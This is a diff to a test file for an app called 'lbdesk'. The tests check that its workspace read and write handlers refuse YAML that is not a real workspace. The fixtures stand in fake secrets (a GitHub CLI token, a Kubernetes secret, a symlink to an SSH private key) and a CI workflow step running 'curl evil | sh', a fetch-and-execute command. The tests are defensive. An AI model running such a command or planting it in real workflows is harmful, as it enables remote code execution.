@@ -40,6 +40,10 @@ beforeAll(() => {
   mkdirSync(join(home, '.config', 'gh'), { recursive: true });
   writeFileSync(join(home, '.config', 'gh', 'hosts.yml'), 'github.com:\n  oauth_token: gho_secret-key-material\n');
   writeFileSync(join(home, 'sites', 'k8s-secret.yaml'), 'apiVersion: v1\nkind: Secret\ndata:\n  password: c2VjcmV0LWtleS1tYXRlcmlhbA==  # secret-key-material\n');
+  // 'lbdesk:' somewhere, but not as the top-level format key.
+  writeFileSync(join(home, 'sites', 'compose.yaml'), 'services:\n  lbdesk:\n    image: x\n    environment: { POSTGRES_PASSWORD: secret-key-material }\n');
+  writeFileSync(join(home, 'sites', 'block.yaml'), 'notes: |\n  lbdesk: 1\napi_token: secret-key-material\n');
+  writeFileSync(join(home, 'sites', 'second-doc.yaml'), 'api_token: secret-key-material\n---\nlbdesk: 1\n');
   symlinkSync(join(home, '.ssh', 'id_rsa'), join(home, 'sites', 'innocent.yaml'));
   symlinkSync(join(home, 'sites', 'site.yaml'), join(home, 'sites', 'alias.yaml'));
   ipc = new InMemoryIpcMain();
@@ -62,6 +66,9 @@ describe('workspace.read', () => {
     ['a file URL', () => `file://${home}/sites/site.yaml`],
     ['YAML that is not a workspace (a CLI token)', () => join(home, '.config', 'gh', 'hosts.yml')],
     ['YAML that is not a workspace (a Kubernetes secret)', () => join(home, 'sites', 'k8s-secret.yaml')],
+    ['YAML with lbdesk: only as a nested key', () => join(home, 'sites', 'compose.yaml')],
+    ['YAML with lbdesk: only inside a block scalar', () => join(home, 'sites', 'block.yaml')],
+    ['YAML with lbdesk: only in a second document', () => join(home, 'sites', 'second-doc.yaml')],
   ];
   for (const [what, path] of cases) {
     it(`refuses ${what}`, async () => expectRefused(await call('workspace.read', { path: path() })));
@@ -103,6 +110,8 @@ describe('workspace.write', () => {
     const workflow = join(tmp.dir, 'repo', '.github', 'workflows', 'ci.yml');
     mkdirSync(dirname(workflow), { recursive: true });
     expectRefused(await call('workspace.write', { path: workflow, text: 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n' }), /is not an lbdesk workspace/);
+    // A job named lbdesk is not the format key.
+    expectRefused(await call('workspace.write', { path: workflow, text: 'on: push\njobs:\n  lbdesk:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo pwned\n' }), /is not an lbdesk workspace/);
     expect(existsSync(workflow)).toBe(false);
   });
 
